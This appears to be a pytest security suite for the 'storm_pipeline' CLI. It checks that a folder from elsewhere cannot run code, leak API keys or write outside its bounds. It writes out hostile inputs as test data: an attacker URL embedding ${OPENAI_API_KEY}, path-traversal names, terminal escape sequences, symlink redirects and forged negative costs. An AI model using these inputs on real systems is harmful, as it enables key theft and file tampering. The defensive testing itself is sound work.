"""A folder from elsewhere, with every trick: commands that are run in it execute no code of it and send no key."""

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import pytest
from articles import article, section, sentence
from commands import run_storm as run
from llm import FakeModel
from servers import Reply, ScriptedServer
from test_batch import offline
from test_resume import answers
from test_resume import storm as small_storm

from storm_pipeline import Storm
from storm_pipeline.errors import RunError, StormError
from storm_pipeline.evidence.retrieval.embedder import HashingEmbedder
from storm_pipeline.interfaces.batch import TopicRequest
from storm_pipeline.interfaces.batch.batch_folder import BatchStore
from storm_pipeline.interfaces.batch.topics import TopicStatus
from storm_pipeline.interfaces.server.remote_settings import RemoteSettings
from storm_pipeline.interfaces.server.run_service import RunService
from storm_pipeline.run.folder import RunStore
from storm_pipeline.run.journal import Journal
from storm_pipeline.run.ledger import Ledger, Spending
from storm_pipeline.settings import Settings

TRICKS = Path(__file__).resolve().parents[1] / "hostile_folder"
KEYS = {name: f"{name.lower().replace('_', '-')}-123456" for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY")}
SMALL = ["--perspectives", "0", "--turns", "1"]


@dataclass(frozen=True)
class Hostile:
    """The folder, the attacker's server, and a model of the user's own."""

    folder: Path
    attacker: ScriptedServer
    model: FakeModel

    def settings(self) -> dict[str, object]:
        """What the attacker's run was made with."""
        bad = f"{self.attacker.url}/v1"
        return {
            "lm": "openai/gpt-4o",
            "api_base": bad,
            "api_key_env": "OPENAI_API_KEY",
            "writer_lm": f"openai/x@{bad}",
            "embedder": "model",
            "cache": self.folder / "stolen",
            "max_tokens": 1_000_000,
        }

    def check(self) -> None:
        """No code ran, nothing was sent to the attacker, and no folder of his was made."""
        assert not list(self.folder.rglob("executed"))
        assert self.attacker.requests == []
        assert not (self.folder / "stolen").exists()
        assert not os.environ.keys() & {
            *("STORM_API_TOKEN", "HTTP_PROXY", "PIP_INDEX_URL", "OPENAI_API_BASE", "LD_PRELOAD")
        }


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hostile]:
    folder = tmp_path / "from-elsewhere"
    shutil.copytree(TRICKS, folder)
    for name in [name for name in os.environ if name.startswith("STORM_") or name.upper().endswith("_PROXY")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("STORM_HOME", str(tmp_path / "attackers-home"))
    for name, key in KEYS.items():
        monkeypatch.setenv(name, key)
    with ScriptedServer(Reply(401)) as attacker, FakeModel(answers()) as model:
        for path in (
            folder / name for name in ("storm.toml", "pyproject.toml", ".env", "topics.csv", "experiment.toml")
        ):
            path.write_text(path.read_text().replace("http://evil.test", attacker.url))
        monkeypatch.chdir(folder)
        made = Hostile(folder, attacker, model)
        with RunStore.create(folder / "runs", "Silk Road", "storm") as run:
            run.begin(Settings.build(made.settings()))
            run.update_state(engine=f"searxng:{attacker.url}/${{OPENAI_API_KEY}}", status="stopped")
            (run.folder / "events.jsonl").touch()
            (run.folder / "article.json").write_text(article(section("Goods", sentence("Silk."))).to_json())
        given = Settings.build(made.settings()).model_dump(mode="json", exclude_unset=True)
        rows = [TopicStatus(1, TopicRequest("Silk Road", {"search": f"searxng:{attacker.url}"}))]
        BatchStore.create(folder / "runs", "batch", rows, settings=given, repeated=0).close()
        monkeypatch.setenv("STORM_HOME", str(tmp_path / "home"))
        yield made


def saved(hostile: Hostile, name: str) -> str:
    return str(next((hostile.folder / "runs").glob(f"*/{name}")).parent)


@pytest.mark.parametrize(
    "command",
    [
        *(["write", "Silk Road"], ["outline", "Silk Road"], ["estimate", "Silk Road"], ["batch", "topics.csv"]),
        *(["compile", "draft", "--train", "notes"], ["resume", "{run}"], ["check", "{run}"], ["refresh", "{run}"]),
        *(["write", "Silk Road", "--programs", "compiled"], ["serve", "--api"], ["mcp"]),
    ],
)
def test_what_would_ask_models_is_refused(hostile: Hostile, command: list[str]) -> None:
    result = run(*(part.format(run=saved(hostile, "run.json")) for part in command))
    assert result.exit_code == 2, result.output
    *_, line = result.stderr.splitlines()
    assert ("was made with --lm" if command[0] == "resume" else "a folder's file says only what is written") in line
    assert "--api-base" in line
    assert not any(key in result.output for key in KEYS.values())
    hostile.check()


def test_paths_are_printed_without_control_characters(hostile: Hostile) -> None:
    made = Path(saved(hostile, "run.json"))
    named = made.rename(made.with_name("x\x1b]0;pwned\x07y\u202e"))
    result = run("export", str(named), "--to", "bibtex")
    assert (result.exit_code, "article.bib" in result.output) == (0, True), result.output
    assert not any(sign in result.output for sign in "\x1b\x07\u202e")


def test_what_only_looks_obeys_nothing_of_it(hostile: Hostile) -> None:
    for command in (
        *(["doctor", "--search", "wiki-leads"], ["runs"], ["show", saved(hostile, "run.json")]),
        *(["export", saved(hostile, "run.json"), "--to", "docx,epub,wikitext,bibtex"], ["assets", "verify"]),
        *(["assets", "list"], ["search", "engines"], ["experiment", "report", "."]),
        *(["experiment", "estimate", "experiment.toml"], ["compile", "list"], ["compile", "show", "compiled"]),
    ):
        result = run(*command)
        assert "unexpected" not in result.stderr, result.stderr
        assert result.exit_code == 0 or command[0] in {"experiment", "compile"} or "storm.toml sets" in result.stderr
        assert not any(key in result.output for key in KEYS.values())
        assert not any(sign in result.output for sign in "\x1b\x07\u202e")
        hostile.check()


@pytest.mark.parametrize("file", ["run.json", "batch.json"])
def test_a_run_from_elsewhere_is_not_resumed_as_it_is(hostile: Hostile, file: str) -> None:
    result = run("resume", saved(hostile, file))
    assert result.exit_code == 2, result.output
    assert (
        f"was made with --lm openai/gpt-4o --writer-lm openai/x@{hostile.attacker.url}/v1 --api-base" in result.stderr
    )
    assert "--api-key-env OPENAI_API_KEY" in result.stderr and "--embedder model" in result.stderr
    others = run("resume", saved(hostile, file), "--lm", hostile.model.lm)  # its writer is still another's
    assert others.exit_code == 2
    hostile.check()


def test_the_users_own_settings_make_it_his(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another model drops the saved address; the engine that ``run.json`` names is none that asks another."""
    given = Settings.build({"lm": hostile.model.lm, "writer_lm": hostile.model.lm, "embedder": "mine", "turns": 1})
    article = offline(given).resume(saved(hostile, "run.json"))
    assert article.title == "Silk Road"
    assert hostile.model.asked
    hostile.check()


def test_a_server_resumes_with_its_owners_settings(hostile: Hostile) -> None:
    owner = Settings.build({"lm": hostile.model.lm, "out": hostile.folder / "runs", "max_tokens": 900_000})

    def open_storm(settings: Settings) -> Storm:
        assert settings.api_base is None and settings.writer_lm is None and settings.cache == Settings().cache
        return offline(settings)

    with RunService(RemoteSettings.build(owner), open_storm=open_storm) as service:
        name = service.resume(Path(saved(hostile, "run.json")).name)
        assert list(service.events(name))
    assert hostile.model.asked
    hostile.check()


@pytest.fixture
def forged(hostile: Hostile, tmp_path: Path) -> tuple[Path, Storm]:
    """A run from elsewhere that is consistent and asks no address, with a storm of the user's own to resume it."""
    own = small_storm(hostile.model, hostile.folder, turns=1)
    own.write("Silk Road")
    (made,) = (hostile.folder / "runs").glob("silk-road*/article.md")
    (made.parent / "article.md").unlink()  # so that there is something to do
    return made.parent, own


@pytest.mark.parametrize("name", ["../../mine.txt", "{mine}", "sections/../../../mine.txt", "\0", "n" * 5000, "", "."])
def test_pieces_that_a_forged_journal_names_stay(hostile: Hostile, forged: tuple[Path, Storm], name: str) -> None:
    folder, own = forged
    mine = hostile.folder / "mine.txt"
    mine.write_text("my own file")
    with Journal(folder / "journal.jsonl") as journal:
        journal.add("piece", name.format(mine=mine), "0" * 64)
    with suppress(StormError):
        own.resume(folder, accept_damage=True)
    assert mine.read_text() == "my own file"
    assert not list(hostile.folder.glob("mine.txt.*"))


@pytest.mark.parametrize("name", ["journal.jsonl", "./run.json", "settings.json", "events.jsonl", "run.lock"])
def test_a_forged_piece_moves_no_record_of_the_run_aside(forged: tuple[Path, Storm], name: str) -> None:
    folder, own = forged
    with Journal(folder / "journal.jsonl") as journal:
        journal.add("piece", name, "0" * 64)
    own.resume(folder, accept_damage=True)
    assert (folder / name).exists() and not list(folder.glob("*.changed"))


@pytest.mark.parametrize(
    "name", ["journal.jsonl", "events.jsonl", "run.lock", "settings.json", "article.md", "sections"]
)
def test_links_in_a_forged_run_are_not_followed(hostile: Hostile, forged: tuple[Path, Storm], name: str) -> None:
    folder, own = forged
    mine = hostile.folder / "mine"
    if (folder / name).is_dir():
        mine.mkdir()
        shutil.rmtree(folder / name)
    else:
        mine.write_bytes((folder / name).read_bytes() if (folder / name).exists() else b"my own file")
        (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(mine)
    before = mine.read_bytes() if mine.is_file() else None
    with pytest.raises(RunError, match="is a link"):
        own.resume(folder, accept_damage=True)
    result = run("resume", str(folder), "--yes")
    assert result.exit_code in (1, 2) and "unexpected" not in result.stderr
    assert (mine.read_bytes() if mine.is_file() else None) == before
    assert before is not None or not list(mine.iterdir())


def test_columns_of_a_list_of_topics_are_data(hostile: Hostile) -> None:
    (hostile.folder / "storm.toml").unlink()
    (hostile.folder / "pyproject.toml").unlink()
    result = run("batch", "topics.csv", "--lm", hostile.model.lm, "--search", "corpus:notes")
    assert result.exit_code == 2
    assert "sets api_base, embedder, lm, search, which decides" in result.stderr
    hostile.check()


def test_what_the_folder_says_of_the_writing_counts(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    (hostile.folder / "pyproject.toml").unlink()
    (hostile.folder / "storm.toml").write_text('length = "short"\n')
    monkeypatch.setattr("storm_pipeline.storm.shared_embedder", lambda *_: HashingEmbedder())
    monkeypatch.setenv("STORM_LM", hostile.model.lm)
    result = run("write", "Silk Road", "--search", "corpus:notes", "--quiet", *SMALL)
    assert result.exit_code == 0, result.stderr
    folder = Path(result.stdout.splitlines()[0]).parent
    assert folder.parent == Path("runs")
    assert '"length": "short"' in (folder / "settings.json").read_text()
    sent = {request.headers.get("authorization") for request in hostile.model._server.requests}
    assert sent == {f"Bearer {KEYS['OPENAI_API_KEY']}"}  # where the user's own word says
    (folder / "article.md").unlink()
    again = run("resume", str(folder), "--quiet")  # the model is that of STORM_LM, the engine an option
    assert (again.exit_code, "was made with --search corpus:notes, which" in again.stderr) == (2, True)
    assert run("resume", str(folder), "--quiet", "--search", "corpus:notes").exit_code == 0
    hostile.check()


@pytest.mark.parametrize("command", [["write", "Silk Road"], ["batch", "list.txt"]])
def test_no_run_is_begun_below_a_link_of_the_folder(hostile: Hostile, command: list[str]) -> None:
    for name in ("storm.toml", "pyproject.toml"):
        (hostile.folder / name).unlink()
    (hostile.folder / "list.txt").write_text("Silk Road\n")
    shutil.rmtree(hostile.folder / "runs")
    (mine := hostile.folder.with_name("mine")).mkdir()
    (hostile.folder / "runs").symlink_to(mine)
    result = run(*command, "--lm", hostile.model.lm, "--search", "corpus:notes", *SMALL)
    assert (result.exit_code, "runs is a link" in result.stderr) == (1, True), result.output
    assert not list(mine.iterdir())
    hostile.check()


def test_no_module_of_the_folder_is_imported(hostile: Hostile) -> None:
    command = [sys.executable, "-m", "storm_pipeline", "doctor", "--search", "wiki-leads"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert "a folder's file says only what is written" in done.stderr
    hostile.check()


@pytest.mark.parametrize("folder", ["../../mine", "{mine}", "..", ".", "a/b", "\0", "n" * 5000])
def test_a_forged_batch_names_no_folder_outside(hostile: Hostile, folder: str) -> None:
    mine = hostile.folder / "mine"
    mine.mkdir()
    named = TopicStatus(1, TopicRequest("Silk Road"), "written", folder.format(mine=mine))
    BatchStore.create(hostile.folder / "runs", "forged", [named], settings={}, repeated=0).close()
    forged = next((hostile.folder / "runs").glob("forged*"))
    with pytest.raises(RunError, match="is damaged"):
        BatchStore.open(forged)
    result = run("resume", str(forged), "--lm", hostile.model.lm, "--search", "corpus:notes")
    assert result.exit_code in (1, 2) and "unexpected" not in result.stderr
    assert not list(mine.iterdir())
    hostile.check()


def test_forged_calls_free_no_cap(hostile: Hostile) -> None:
    call = {"stage": "", "role": "writer", "model": "m", "tokens_cached": 0, "tokens_out": 0, "seconds": 0.0}
    with RunStore.create(hostile.folder / "runs", "Tea", "storm") as made:
        made.begin(Settings())
        made.journal.add("reply", "forged", {"text": "x", "call": call | {"tokens_in": -(10**9), "cost": -1e9}})
    with RunStore.open(made.folder, accept_damage=True) as opened:
        assert Ledger().restore(opened.earlier_events) == Spending()
